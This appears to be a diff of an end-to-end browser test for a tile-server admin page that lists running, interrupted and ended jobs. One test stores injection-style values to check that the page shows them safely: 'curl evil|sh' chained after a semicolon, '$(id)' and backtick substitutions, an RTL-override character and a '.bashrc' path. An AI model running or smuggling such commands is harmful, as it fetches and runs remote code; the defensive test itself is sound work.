@@ -16,10 +16,12 @@ const RUNS = 2000
 const DAY = 86_400_000 // milliseconds
 
 const timeOf = ms => new Date(ms).toISOString().slice(0, 19) + 'Z'
-const runOf = (ms, number) => `${new Date(ms).toISOString().replace(/[-:.Z]/g, '')}-${number.toString(36).padStart(4, '0')}`
+const runOf =
+  (ms, number) => `${new Date(ms).toISOString().replace(/[-:.Z]/g, '')}-${number.toString(36).padStart(4, '0')}`
 
 const part = (page, head) => page.locator('.work .card').filter({ has: page.getByRole('heading', { name: head }) })
-const isRead = page => page.waitForFunction(() => document.querySelector('.work') && !document.querySelector('.work[aria-busy]'))
+const isRead =
+  page => page.waitForFunction(() => document.querySelector('.work') && !document.querySelector('.work[aria-busy]'))
 
 onAdmin('work', stage => {
   const folder = useFolder()
@@ -28,7 +30,8 @@ onAdmin('work', stage => {
   const write = async (fields, at = Date.now()) => {
     const _id = workId(runOf(at, Math.floor(Math.random() * 36 ** 4)))
     const times = { started: timeOf(at), seen: timeOf(at) }
-    await stage.store.couch.update(_id, () => ({ type: 'work', state: 'running', user: stage.owner.name, ...times, ...fields }))
+    await stage.store.couch.update(_id,
+      () => ({ type: 'work', state: 'running', user: stage.owner.name, ...times, ...fields }))
     return _id
   }
 
@@ -38,13 +41,15 @@ onAdmin('work', stage => {
     await stage.store.couch.bulk(old.map(({ id, value }) => ({ _id: id, _rev: value.rev, _deleted: true })))
   })
 
-  it('shows a load while it runs, then as interrupted when it was killed, with the command to go on', async function () {
+  it('shows a load while it runs, then as interrupted when it was killed, ' +
+    'with the command to go on', async function () {
     this.timeout(90000)
     const upstream = await startUpstream()
     const page = await stage.enter('work')
     await part(page, 'Running now').getByText('No command runs at the moment.').waitFor()
     const source = `${upstream.url}/xyz/{z}/{x}/{y}.png`
-    const { child } = startCommand(['load', source, '--layer', 'town', '--bbox', '-180,-85,180,85', '--zoom', '0-6', '--rate', '2/s', '--time', '2024', '--db', stage.backend.database], { TILECOUCH_UPSTREAM_NETWORKS: '127.0.0.1' })
+    const { child } = startCommand(['load', source, '--layer', 'town', '--bbox', '-180,-85,180,85', '--zoom', '0-6',
+      '--rate', '2/s', '--time', '2024', '--db', stage.backend.database], { TILECOUCH_UPSTREAM_NETWORKS: '127.0.0.1' })
     try {
       const running = part(page, 'Running now').locator('.run')
       await running.getByText('load town').waitFor()
@@ -68,7 +73,11 @@ onAdmin('work', stage => {
   it('counts a command as interrupted that is silent for too long, without any new document', async () => {
     const page = await stage.enter('work')
     await isRead(page)
-    await write({ command: 'seed', layer: 'osm', args: ['seed', 'osm'], started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) })
+    await write(
+      { command: 'seed', layer: 'osm', args: [
+        'seed', 'osm'
+      ], started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) }
+    )
     await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE })
     await part(page, 'Interrupted').getByText('seed osm', { exact: true }).waitFor({ timeout: 15000 })
     assert.match(await part(page, 'Interrupted').locator('code').innerText(), /^tilecouch seed( --db http:\S+)? osm$/)
@@ -80,9 +89,13 @@ onAdmin('work', stage => {
     const evil = 'tilecouch load x ; curl evil|sh'
     const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
     await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
-    await write({ ...ended, layer: 'turned', line: evil, args: ['load', '\u202etiles'], error: { message: 'a\u202eb' } })
+    await write(
+      { ...ended, layer: 'turned', line: evil, args: ['load', '\u202etiles'], error: { message: 'a\u202eb' } }
+    )
     await write({ ...ended, command: 'doctor', layer: 'repaired', args: ['doctor', '--fix', '--cors', '*'] })
-    await write({ ...ended, command: 'seed', layer: 'overwritten', args: ['seed', 'osm', '--failed', '/home/admin/.bashrc'] })
+    await write(
+      { ...ended, command: 'seed', layer: 'overwritten', args: ['seed', 'osm', '--failed', '/home/admin/.bashrc'] }
+    )
     await write({ ...ended, layer: 'quoted', args: ['load', "it's ; curl evil|sh", '$(id)', '`id`'] })
     const row = name => part(page, 'Ended').locator('tbody tr').filter({ hasText: name })
     await row('turned').waitFor()
@@ -106,7 +119,14 @@ onAdmin('work', stage => {
       await row.getByText('Done', { exact: true }).waitFor({ timeout: LIVE })
       await row.getByText(new RegExp(`^3( of 3)? ${unit}`)).waitFor()
     }
-    const id = await write({ command: 'export', layer: 'osm', done: 5, failed: 2, failures: ['osm:5:1:1: <b>no</b> image', 'osm:5:1:2: gone'], error: { code: 'TARGET_EXISTS', message: 'out.mbtiles exists', advice: 'Use another name.' }, state: 'failed', finished: timeOf(Date.now() + 1000) })
+    const id = await write(
+      {
+        command: 'export', layer: 'osm', done: 5, failed: 2,
+        failures: ['osm:5:1:1: <b>no</b> image', 'osm:5:1:2: gone'],
+        error: { code: 'TARGET_EXISTS', message: 'out.mbtiles exists', advice: 'Use another name.' },
+        state: 'failed', finished: timeOf(Date.now() + 1000)
+      }
+    )
     const row = part(page, 'Ended').locator('tbody tr').first()
     await row.getByText('Use another name.').waitFor({ timeout: LIVE })
     await row.getByText('[TARGET_EXISTS]').waitFor()
@@ -121,12 +141,15 @@ onAdmin('work', stage => {
   it('shows what changes within two seconds, and keeps what is open', async () => {
     const page = await stage.enter('work')
     await isRead(page)
-    const id = await write({ command: 'backup', unit: 'documents', done: 1, total: 100, failed: 1, failures: ['osm:1:1:1: gone'], rate: 10 })
+    const id = await write(
+      { command: 'backup', unit: 'documents', done: 1, total: 100, failed: 1, failures: ['osm:1:1:1: gone'], rate: 10 }
+    )
     const running = part(page, 'Running now').locator('.run')
     await running.getByText('1 of 100 documents').waitFor({ timeout: LIVE })
     await running.getByText('1 failure', { exact: true }).click()
     await stage.store.couch.update(id, doc => ({ ...doc, done: 60, seen: timeOf(Date.now()) }))
-    await running.getByText(/^60 of 100 documents · 10 a second · about 4 secs? left · 1 failure$/).waitFor({ timeout: LIVE })
+    await running.getByText(/^60 of 100 documents · 10 a second · about 4 secs? left · 1 failure$/)
+      .waitFor({ timeout: LIVE })
     await running.getByText('osm:1:1:1: gone').waitFor()
     await stage.store.couch.update(id, doc => ({ ...doc, state: 'stopped', finished: timeOf(Date.now()) }))
     await part(page, 'Ended').locator('tbody').getByText('Stopped').waitFor({ timeout: LIVE })
@@ -134,7 +157,9 @@ onAdmin('work', stage => {
   })
 
   it('shows a writer the same, and lets him remove what is his', async () => {
-    for (const user of ['wanda', 'otto']) await write({ command: 'check', layer: user, user, state: 'done', finished: timeOf(Date.now()) })
+    for (const user of ['wanda', 'otto']) {
+      await write({ command: 'check', layer: user, user, state: 'done', finished: timeOf(Date.now()) })
+    }
     const page = await stage.visit('work')
     await page.route('**/_session', async (route, request) => {
       if (request.method() !== 'GET') return route.continue()
@@ -144,14 +169,19 @@ onAdmin('work', stage => {
     await isRead(page)
     await part(page, 'Ended').locator('tbody tr').nth(1).waitFor()
     assert.deepEqual(await page.locator('#sections a').allInnerTexts(), ['Layers', 'Work'])
-    assert.deepEqual(await part(page, 'Ended').getByRole('button', { name: /^Remove/ }).evaluateAll(all => all.map(each => each.getAttribute('aria-label'))), ['Remove: check wanda'])
+    assert.deepEqual(await part(page, 'Ended').getByRole('button', { name: /^Remove/ })
+      .evaluateAll(all => all.map(each => each.getAttribute('aria-label'))), ['Remove: check wanda'])
   })
 
   it('fills in a command for a layer', async () => {
     await stage.store.defineLayer('osm', { bounds: [5, 45, 11, 48], minzoom: 2, maxzoom: 9 })
     const page = await stage.enter('work')
     const start = part(page, 'Start something')
-    const wanted = { load: /^tilecouch load tiles\/ --layer LAYER/, export: /^tilecouch export osm tiles.pmtiles/, seed: /^tilecouch seed osm --bbox 5,45,11,48 --zoom 2-9/, prune: /^tilecouch prune osm/, check: /^tilecouch check osm/, backup: /^tilecouch backup store.tcb/ }
+    const wanted = {
+      load: /^tilecouch load tiles\/ --layer LAYER/, export: /^tilecouch export osm tiles.pmtiles/,
+      seed: /^tilecouch seed osm --bbox 5,45,11,48 --zoom 2-9/, prune: /^tilecouch prune osm/,
+      check: /^tilecouch check osm/, backup: /^tilecouch backup store.tcb/
+    }
     for (const [name, line] of Object.entries(wanted)) {
       await start.getByLabel('Command').selectOption(name)
       await start.locator('code').filter({ hasText: line }).waitFor()
@@ -165,8 +195,10 @@ onAdmin('work', stage => {
       const at = now - Math.floor(number * 80 * DAY / RUNS) - DAY
       const isRare = number === RUNS - 1
       batch.push({
-        _id: workId(runOf(at, number)), type: 'work', command: isRare ? 'backup' : 'load', layer: `sheet-${number % 200}`,
-        state: number % 50 ? 'done' : 'failed', started: timeOf(at), seen: timeOf(at + 9000), finished: timeOf(at + 9000),
+        _id: workId(runOf(at, number)), type: 'work', command: isRare ? 'backup' : 'load',
+        layer: `sheet-${number % 200}`,
+        state: number % 50 ? 'done' : 'failed', started: timeOf(at),
+        seen: timeOf(at + 9000), finished: timeOf(at + 9000),
         unit: 'tiles', done: 1000, total: 1000, rate: 111, user: stage.owner.name
       })
       if (batch.length === 1000) {
